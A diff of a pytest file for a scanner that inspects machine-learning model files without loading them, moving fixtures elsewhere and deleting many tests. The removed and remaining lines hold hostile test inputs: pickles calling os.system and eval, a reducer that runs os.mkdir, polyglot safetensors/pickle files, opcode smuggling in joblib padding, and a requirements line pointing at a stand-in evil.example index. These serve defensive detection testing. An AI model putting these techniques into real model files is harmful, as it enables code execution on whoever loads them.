@@ -1,12 +1,8 @@
-"""Model files inspected without loading them: hostile ones are told, sound ones are not, the rest is no pass."""
+"""Model files of every format are scanned without loading them."""
 
 from __future__ import annotations
 
-import bz2
-import gzip
 import json
-import lzma
-import os
 import pickle
 import random
 import re
@@ -27,61 +23,7 @@ from gauntlet.assurance.scan.findings import Scanned
 from gauntlet.assurance.scan.models import RULES, Limits, allowed, scan
 from gauntlet.errors import ModelError
 from gauntlet.state import PROJECT_ROOT
-
-
-class Payload:
-    """Unpickled, it would make a file: what no test may find."""
-
-    def __init__(self, marker: Path) -> None:
-        self.marker = marker
-
-    def __reduce__(self) -> tuple[Any, ...]:
-        return os.mkdir, (str(self.marker),)
-
-
-def rules(result: Scanned) -> set[str]:
-    return {finding.rule for finding in result.findings}
-
-
-def archive(path: Path, **members: Any) -> Path:
-    """A zip whose members are `name=content`, `__` standing for a dot; mappings are written as JSON."""
-    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as opened:
-        for name, content in members.items():
-            text = json.dumps(content) if isinstance(content, dict) else content
-            opened.writestr(name.replace("__", "."), text)
-    return path
-
-
-def layer(**entry: Any) -> dict[str, Any]:
-    """A sequential model with one layer, deep enough that only a walk finds it."""
-    wrapped = {"class_name": "TimeDistributed", "module": "keras.layers", "config": {"name": "t", "layer": entry}}
-    return {"class_name": "Sequential", "module": "keras", "config": {"name": "s", "layers": [wrapped]}}
-
-
-def function(module: str, name: str) -> dict[str, Any]:
-    return {"module": module, "class_name": "function", "config": name, "registered_name": name}
-
-
-OLD_LAMBDA = {"function": ["4wAA", None, None], "function_type": "lambda"}
-BYTECODE = {"class_name": "__lambda__", "config": {"value": "4wAA", "defaults": None, "closure": None}}
-GADGET = function("keras.config", "enable_unsafe_deserialization")
-HOSTILE_CONFIGS: list[tuple[dict[str, Any], set[str]]] = [
-    (layer(class_name="Lambda", module="keras.layers", config={"name": "l", "function": BYTECODE}), {"GM001", "GM002"}),
-    (layer(class_name="Lambda", config=OLD_LAMBDA), {"GM001", "GM002"}),
-    (layer(class_name="Lambda", module="keras.layers", config={"name": "l", "function": GADGET}), {"GM001", "GM005"}),
-    (layer(class_name="Dense", module="keras.layers", config={"activation": BYTECODE}), {"GM002"}),
-    (layer(class_name="system", module="os", config="id"), {"GM003"}),
-    (layer(class_name="Popen", module="subprocess", config={"args": ["id"]}), {"GM003"}),
-    (layer(class_name="Dense", module="keras.layers", config={"activation": function("builtins", "eval")}), {"GM003"}),
-    (layer(class_name="Odd", module="somebody.layers", config={}), {"GM004"}),
-    (layer(class_name="Odd", module=None, registered_name="theirs>Odd", config={}), {"GM004"}),
-    (layer(class_name="theirs>Odd", config={}), {"GM004"}),
-    ({"class_name": "Sequential", "compile_config": {"loss": function("builtins", "my_loss")}}, {"GM004"}),
-    ({"class_name": "Sequential", "compile_config": {"loss": function("os", "system")}}, {"GM003"}),
-    (layer(class_name="TFSMLayer", module="keras.layers", config={"filepath": "/tmp/x"}), {"GM006"}),
-    (layer(class_name="StringLookup", module="keras.layers", config={"vocabulary": "/etc/passwd"}), {"GM006"}),
-    (layer(class_name="Dense", module="keras.layers", config={"name": "../../etc/x"}), {"GM007"}),
-]  # fmt: skip
+from tests.gauntlet.assurance.scan.payloads import HOSTILE_CONFIGS, WAYS, Payload, archive, layer, rules
 
 
 @pytest.mark.parametrize(("config", "found"), HOSTILE_CONFIGS)
@@ -141,131 +83,6 @@ def test_every_allowed_name_is_one_of_keras_and_takes_no_callable() -> None:
 def test_a_configuration_that_cannot_be_read_does_not_pass(tmp_path: Path, text: str) -> None:
     result = scan(archive(tmp_path / "m.keras", config__json=text))
     assert "config.json" in result.errors[0]
-
-
-@pytest.mark.parametrize("protocol", range(6))
-def test_a_pickle_that_runs_code_is_told_and_not_run(tmp_path: Path, protocol: int) -> None:
-    (tmp_path / "m.pkl").write_bytes(pickle.dumps([1, {"a": Payload(tmp_path / "ran")}], protocol))
-    result = scan(tmp_path / "m.pkl")
-    assert (rules(result), result.errors) == ({"GM010"}, ())
-    assert "mkdir" in result.findings[0].message
-    assert not (tmp_path / "ran").exists()
-
-
-def save(how: Callable[..., None], path: Path, *arrays: np.ndarray) -> None:
-    with path.open("wb") as opened:
-        how(opened, *arrays)
-
-
-WAYS: dict[str, Callable[[Any, Path], object]] = {
-    "joblib": lambda value, path: joblib.dump(value, path),
-    "joblib-zlib": lambda value, path: joblib.dump(value, path, compress=("zlib", 3)),
-    "joblib-gzip": lambda value, path: joblib.dump(value, path, compress=("gzip", 3)),
-    "joblib-xz": lambda value, path: joblib.dump(value, path, compress=("xz", 3)),
-    "gzip": lambda value, path: path.write_bytes(gzip.compress(pickle.dumps(value))),
-    "bz2": lambda value, path: path.write_bytes(bz2.compress(pickle.dumps(value))),
-    "lzma": lambda value, path: path.write_bytes(lzma.compress(pickle.dumps(value), lzma.FORMAT_ALONE)),
-    "npy": lambda value, path: save(np.save, path, np.array([value], dtype=object)),
-    "npz": lambda value, path: save(np.savez, path, np.zeros(3), np.array([value], dtype=object)),
-    "torch": lambda value, path: archive(path, **{"m/data__pkl": pickle.dumps(value), "m/data/0": b"\0" * 40}),
-    "zip in zip": lambda value, path: archive(
-        path, inner=archive(path.with_suffix(".in"), x=pickle.dumps(value)).read_bytes()
-    ),
-}
-
-
-@pytest.mark.parametrize("way", WAYS)
-def test_a_payload_is_found_behind_an_array_and_in_every_container(tmp_path: Path, way: str) -> None:
-    record = np.zeros(3, dtype=[("a", "f8"), ("b", "i4")])
-    value = [np.random.default_rng(0).random(2_000), record, np.array(["a", "bc"]), Payload(tmp_path / "ran")]
-    WAYS[way](value, tmp_path / "m.bin")
-    result = scan(tmp_path / "m.bin")
-    assert "GM010" in rules(result)
-    assert result.errors == ()
-    WAYS[way](value[:3], tmp_path / "sound.bin")
-    sound = scan(tmp_path / "sound.bin")
-    assert rules(sound) == ({"GM013"} if way in ("npy", "npz") else set())
-    assert sound.errors == ()
-
-
-def test_a_payload_in_an_object_array_of_joblibs_is_found(tmp_path: Path) -> None:
-    joblib.dump({"a": np.array([Payload(tmp_path / "ran"), 1], dtype=object)}, tmp_path / "m.joblib")
-    assert rules(scan(tmp_path / "m.joblib")) == {"GM010"}
-
-
-def test_opcodes_between_the_numbers_are_found(tmp_path: Path) -> None:
-    # joblib.load goes past what lies before an array, pickle.load runs it.
-    path, numbers = tmp_path / "m.pkl", np.arange(7, 207, dtype=np.uint8)
-    joblib.dump([numbers], path)
-    content = path.read_bytes()
-    at = content.index(numbers.tobytes())
-    padding = len(content[:at]) - len(content[:at].rstrip(b"\xff"))
-    assert content[at - padding - 1] == padding
-    code = b"cos\nsystem\n(S'id'\ntR.".ljust(1 + ord("c"))
-    path.write_bytes(content[: at - padding - 1] + code + content[at:])
-    assert joblib.load(path)[0].tolist() == numbers.tolist()
-    assert scan(path).findings[0].message.endswith("os.system")
-
-
-def sklearn_models() -> list[Any]:
-    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
-    from sklearn.linear_model import LogisticRegression
-    from sklearn.neighbors import KNeighborsClassifier
-    from sklearn.neural_network import MLPClassifier
-    from sklearn.pipeline import make_pipeline
-    from sklearn.preprocessing import StandardScaler
-    from sklearn.svm import SVC
-
-    x, y = np.random.default_rng(0).random((60, 5)), np.arange(60) % 3
-    forest, boosted = RandomForestClassifier(3), HistGradientBoostingClassifier(max_iter=2)
-    models = [forest, boosted, KNeighborsClassifier(algorithm="kd_tree"), SVC(), MLPClassifier(solver="lbfgs")]
-    return [one.fit(x, y) for one in [*models, make_pipeline(StandardScaler(), LogisticRegression())]]
-
-
-@pytest.mark.filterwarnings("ignore:lbfgs failed to converge")
-def test_sound_models_of_scikit_learn_have_no_findings(tmp_path: Path) -> None:
-    for number, fitted in enumerate(sklearn_models()):
-        (tmp_path / f"{number}.pkl").write_bytes(pickle.dumps(fitted))
-        joblib.dump(fitted, tmp_path / f"{number}.joblib")
-    assert scan(tmp_path) == Scanned()
-
-
-GLOBALS: list[tuple[bytes, set[str]]] = [
-    (b"cos\nsystem\n.", {"GM010"}),
-    (b"c__builtin__\neval\n.", {"GM010"}),
-    (b"ccommands\ngetoutput\n.", {"GM010"}),
-    (b"cnumpy.testing._private.utils\nrunstring\n.", {"GM010"}),
-    (b"\x80\x04\x8c\x07sklearn\x8c\x0eutils.os.popen\x93.", {"GM010"}),
-    (b"(S'id'\niposix\nsystem\n.", {"GM010"}),
-    (b"csomebody\nModel\n.", {"GM011"}),
-    (b"csklearn.utils\nresample\n.", {"GM011"}),
-    (b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93.", {"GM010"}),
-    (b"\x80\x04\x8c\x02os\x8c\x06system\x93.", {"GM010"}),
-    (b"\x80\x04\x8c\x01a]\x93.", {"GM012"}),
-    (b"\x80\x02\x82\x01.", {"GM012"}),
-    (b"cbuiltins\nset\n.", set()),
-]
-
-
-@pytest.mark.parametrize(("code", "found"), GLOBALS)
-def test_objects_are_judged_by_module_and_name(tmp_path: Path, code: bytes, found: set[str]) -> None:
-    (tmp_path / "m.pkl").write_bytes(code)
-    assert rules(scan(tmp_path / "m.pkl")) == found
-
-
-@pytest.mark.parametrize(
-    "code",
-    [
-        b"cos\nsystem\n(S'id'\ntR\xff",  # broken after the call, which has been made by then
-        b"cos\nsystem\n(S'id'\ntR.more",
-        pickle.dumps(Payload(Path("x")))[:-1],
-    ],
-)
-def test_what_comes_before_a_break_is_told_and_the_break_too(tmp_path: Path, code: bytes) -> None:
-    (tmp_path / "m.pkl").write_bytes(code)
-    result = scan(tmp_path / "m.pkl")
-    assert rules(result) == {"GM010"}
-    assert len(result.errors) == 1
 
 
 @pytest.mark.parametrize(
@@ -380,60 +197,6 @@ def test_a_folder_is_looked_into_file_by_file(tmp_path: Path) -> None:
     assert {error.split(":")[0] for error in result.errors} == {"MLmodel", "code.py", "data/notes.txt"}
 
 
-SAVER = "__inference__traced_save_12"
-"""How TensorFlow calls the function that saves variables."""
-
-
-def saved_model(*ops: str, owner: str = "f", caller: str = "") -> bytes:
-    """The bytes that TensorFlow would write for a graph of these operations, half of them within a function.
-
-    Another function may call that one.
-    """
-    from gauntlet.quiet import load_tensorflow
-
-    load_tensorflow()
-    from tensorflow.core.protobuf import saved_model_pb2
-
-    message = saved_model_pb2.SavedModel(saved_model_schema_version=1)
-    graph = message.meta_graphs.add().graph_def
-    within = graph.library.function.add()
-    within.signature.name = owner
-    if caller:
-        other = graph.library.function.add()
-        other.signature.name = caller
-        node = other.node_def.add(name="call", op="StatefulPartitionedCall")
-        node.attr["f"].func.name = owner
-    for number, op in enumerate(ops):
-        node = graph.node.add() if number % 2 else within.node_def.add()
-        node.name, node.op = f"n{number}", op
-    return bytes(message.SerializeToString())
-
-
-def test_an_operation_behind_a_number_that_readers_cut_is_no_pass(tmp_path: Path) -> None:
-    from tests.hostile import making
-
-    whole = saved_model("MatMul", "WriteFile")
-    hidden = making.varint((2 << 3 | 2) + (1 << 32)) + whole[whole.index(b"\x12") + 1 :]
-    (tmp_path / "saved_model.pb").write_bytes(saved_model("MatMul") + hidden)
-    assert "not a SavedModel that can be read: field" in scan(tmp_path).errors[0]
-
-
-def test_operations_of_a_saved_model_are_read_without_tensorflow(tmp_path: Path) -> None:
-    (tmp_path / "variables").mkdir()
-    (tmp_path / "variables" / "variables.index").write_bytes(bytes(40) + bytes.fromhex("57fb808b247547db"))
-    (tmp_path / "saved_model.pb").write_bytes(saved_model("ReadFile", "MatMul", "Relu", "WriteFile"))
-    result = scan(tmp_path)
-    assert [finding.message.split(": ")[1] for finding in result.findings] == ["ReadFile", "WriteFile"]
-    (tmp_path / "saved_model.pb").write_bytes(saved_model("MatMul", "RestoreV2", "SaveV2"))
-    assert {finding.message.split(": ")[1] for finding in scan(tmp_path).findings} == {"RestoreV2", "SaveV2"}
-    (tmp_path / "saved_model.pb").write_bytes(saved_model("RestoreV2", "MatMul", "SaveV2", owner=SAVER))
-    assert scan(tmp_path) == Scanned()
-    (tmp_path / "saved_model.pb").write_bytes(saved_model("SaveV2", "MatMul", owner=SAVER, caller="evil"))
-    assert rules(scan(tmp_path)) == {"GM016"}
-    (tmp_path / "saved_model.pb").write_bytes(b"\xff\xff\xff")
-    assert len(scan(tmp_path).errors) == 1
-
-
 def seeds(folder: Path) -> list[bytes]:
     """A sound or hostile file of every kind, to be broken."""
     with h5py.File(folder / "s.h5", "w") as opened:
@@ -518,106 +281,6 @@ def test_the_rules_of_the_page_are_those_declared() -> None:
     assert rows == [(r.id, r.name, r.severity, r.message, r.source) for r in RULES.values()]
 
 
-WRAPPED = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n"
-LIST = b"(" + WRAPPED + b"cbuiltins\nobject\nNl"
-MADE, SHAPE = WRAPPED + b")\x81", b"(S'shape'\n(I1\nt"
-DTYPED = b"S'dtype'\ncnumpy\ndtype\n(S'u1'\nI0\nI1\ntR(I3\nS'|'\nNNNI-1\nI-1\nI0\ntb"
-HIDDEN = b"U\x10..cos\nsystem\n)R.."
-"""To one reader a text, to one that is two bytes further an import."""
-SNEAKY: dict[str, bytes] = {
-    "a wrapper made by copyreg of a list that becomes its arguments": b"\x80\x02ccopyreg\n_reconstructor\n"
-    + b"cbuiltins\ntuple\n("
-    + LIST
-    + b"tRR}"
-    + SHAPE
-    + DTYPED
-    + b"ub"
-    + HIDDEN,
-    "attributes of the wrapper's class": b"\x80\x02"
-    + WRAPPED
-    + b"(N}S'numpy_array_alignment_bytes'\nI16\nstb0"
-    + MADE
-    + b"}"
-    + SHAPE
-    + DTYPED
-    + b"ub"
-    + HIDDEN,
-    "attributes of a class": b"\x80\x02csklearn.svm._classes\nSVC\n(N}S'fit'\ncbuiltins\nlist\nstb.",
-    "a wrapper that is described twice": b"\x80\x02"
-    + MADE
-    + b"q\x05}S'numpy_array_alignment_bytes'\nI16\ns"
-    + SHAPE
-    + DTYPED
-    + b"ub\x00x0h\x05}"
-    + SHAPE
-    + DTYPED
-    + b"ub"
-    + HIDDEN,
-    "a wrapper whose alignment is computed": b"\x80\x02"
-    + MADE
-    + b"}"
-    + SHAPE
-    + DTYPED
-    + b"S'numpy_array_alignment_bytes'\ncbuiltins\nint\n(tRub"
-    + HIDDEN,
-    "a wrapper one of whose keys is computed": b"\x80\x02"
-    + MADE
-    + b"}"
-    + SHAPE
-    + DTYPED
-    + b"ucbuiltins\nstr\n(S'shape'\ntR(I0\ntsb"
-    + HIDDEN,
-    "a wrapper made by copyreg": b"ccopyreg\n_reconstructor\n(" + WRAPPED + b"cbuiltins\nobject\nNtR}b.",
-    "a wrapper that is called": WRAPPED + b")R}b.",
-    "a name computed at run time": b"\x80\x04cbuiltins\nstr\n\x8c\x02os\x85R\x8c\x06system\x93.",
-    "a command runner": b"c_osx_support\n_read_output\n(Vid\ntR.",
-    "another": b"cuuid\n_get_command_stdout\n(Vid\ntR.",
-    "a file opener": b"c_pyio\nopen\n(V/etc/passwd\ntR.",
-    "a reader of pickles": b"cpandas\nread_pickle\n(V/tmp/x\ntR.",
-    "a re-export of scikit-learn's": b"csklearn.utils.fixes\nPath\n(V/tmp\ntR.",
-    "a class of nobody's": b"csomebody.module\nModel\n)R.",
-}
-
-
-@pytest.mark.parametrize("content", SNEAKY.values(), ids=SNEAKY)
-def test_what_is_not_on_the_allow_list_is_never_clean(content: bytes, tmp_path: Path) -> None:
-    (tmp_path / "m.pkl").write_bytes(content)
-    result = scan(tmp_path / "m.pkl")
-    severe = [finding for finding in result.findings if finding.severity == "high"]
-    assert severe or result.errors, "would pass a gate of --fail-on high"
-
-
-def test_models_of_scikit_learn_are_clean(tmp_path: Path) -> None:
-    import joblib
-    from sklearn.ensemble import RandomForestClassifier
-    from sklearn.linear_model import LogisticRegression
-    from sklearn.pipeline import make_pipeline
-    from sklearn.preprocessing import StandardScaler
-    from sklearn.svm import SVC
-
-    x, y = np.random.default_rng(0).normal(size=(40, 5)), np.arange(40) % 2
-    for model in (RandomForestClassifier(3), make_pipeline(StandardScaler(), LogisticRegression()), SVC()):
-        model.fit(x, y)
-        joblib.dump(model, tmp_path / "m.joblib")
-        (tmp_path / "m.pkl").write_bytes(pickle.dumps(model))
-        assert scan(tmp_path / "m.joblib") == scan(tmp_path / "m.pkl") == Scanned()
-
-
-def test_every_allowed_class_of_scikit_learn_is_defined_where_it_is_named() -> None:
-    import importlib
-    import warnings
-
-    from gauntlet.assurance.scan.models.objects import _sklearn
-
-    for module, names in _sklearn().items():
-        with warnings.catch_warnings():
-            warnings.simplefilter("ignore")
-            found = importlib.import_module(module)
-        assert {name for name in names if not name.startswith("__")} <= {
-            name for name, thing in vars(found).items() if getattr(thing, "__module__", "") == module
-        }
-
-
 INERT = {
     "conda.yaml": (b"x: !!python/object/apply:os.system [id]\n", "GM003"),
     "requirements.txt": (b"--index-url http://evil.example/simple\nnumpy\n", "GM015"),
@@ -630,54 +293,6 @@ def test_texts_that_run_or_fetch_code_are_told(name: str, content: bytes, rule: 
     (tmp_path / name).parent.mkdir(exist_ok=True)
     (tmp_path / name).write_bytes(content)
     assert rule in {finding.rule for finding in scan(tmp_path).findings}
-
-
-def test_an_operation_that_is_not_known_is_never_clean(tmp_path: Path) -> None:
-    (tmp_path / "saved_model.pb").write_bytes(saved_model("MatMul", "SomebodysOwnOp"))
-    result = scan(tmp_path)
-    assert rules(result) == {"GM018"}
-    assert "SomebodysOwnOp: what it does is not known" in result.errors[0]
-
-
-def in_safetensors(code: bytes) -> bytes:
-    """A file that is whole safetensors, and a pickle: the length of the header is an opcode to a reader of pickles.
-
-    That opcode takes a text, the header's first bytes; more such texts fill the header, and the code is the tensor.
-    """
-    start = b'{"__metadata__":{"a":"'
-    entry = {"dtype": "U8", "shape": [len(code)], "data_offsets": [0, len(code)]}
-    end = b'"},"t":' + json.dumps(entry).encode() + b"}"
-    front = b"X" + (3 + len(start)).to_bytes(4, "little") + bytes(3)
-    left = int.from_bytes(front, "little") - len(start) - len(end)
-    texts = (n for n in range(93, 127))  # how long: the number is a plain character, too
-    n, pad = next((n, pad) for n in texts for pad in range(127 - len(end)) if (left - pad - 2) % (n + 3) == 0)
-    filled = (b"U" + bytes([n]) + b" " * n + b"0") * ((left - pad - 2) // (n + 3))
-    return front + start + filled + b"U" + bytes([pad + len(end)]) + b" " * pad + end + code
-
-
-IMPORTS = b"cos\nsystem\n."
-AS_OTHERS: dict[str, bytes] = {
-    "TensorFlow Lite": b"\x80\x04\x8c\x04TFL3" + IMPORTS,
-    "TensorFlow Lite, of nobody's": b"\x80\x04\x8c\x04TFL3csomebody\nrun\n.",
-    "safetensors": in_safetensors(IMPORTS),
-}
-
-
-@pytest.mark.parametrize("content", AS_OTHERS.values(), ids=AS_OTHERS)
-def test_a_pickle_that_is_a_file_of_another_format_too_is_told(content: bytes, tmp_path: Path) -> None:
-    (tmp_path / "m.pkl").write_bytes(content)
-    result = scan(tmp_path / "m.pkl")
-    assert rules(result) & {"GM010", "GM011"}, result
-
-
-def test_what_an_array_spells_is_told_when_it_is_a_name_on_no_list(tmp_path: Path) -> None:
-    path, numbers = tmp_path / "m.pkl", np.frombuffer(b"csomebody\nrun\n)R.".ljust(200, b"\xff"), np.uint8)
-    joblib.dump([numbers], path)
-    content = path.read_bytes()
-    at = content.index(numbers.tobytes())
-    padding = len(content[:at]) - len(content[:at].rstrip(b"\xff"))
-    path.write_bytes(content[: at - padding - 1] + b"csomebody\nrun\n)R.".ljust(100) + content[at:])
-    assert "GM011" in rules(scan(path))
 
 
 ARCHIVES: dict[str, tuple[Callable[[bytes], bytes], str]] = {
@@ -700,17 +315,3 @@ def test_an_archive_that_readers_read_differently_is_told(
 def test_members_that_differ_in_case_alone_are_told(tmp_path: Path) -> None:
     path = archive(tmp_path / "m.keras", config__json={}, Config__json={})
     assert rules(scan(path)) == {"GM017"}
-
-
-@pytest.mark.parametrize(
-    ("operation", "found"),
-    [(b"FlexWriteFile", {"GM016"}), (b"FlexMatMul", set()), (b"Evil", {"GM018"}), (b"FlexEvil", {"GM018"})],
-)
-def test_operations_of_tensorflow_lite_are_read(operation: bytes, found: set[str], tmp_path: Path) -> None:
-    from tests.hostile import making
-
-    (tmp_path / "m.tflite").write_bytes(making.tflite(operation))
-    result = scan(tmp_path / "m.tflite")
-    assert (rules(result), bool(result.errors)) == (found, "GM018" in found)
-    (tmp_path / "m.tflite").write_bytes(making.tflite(operation)[:30])
-    assert "TensorFlow Lite" in scan(tmp_path / "m.tflite").errors[0]
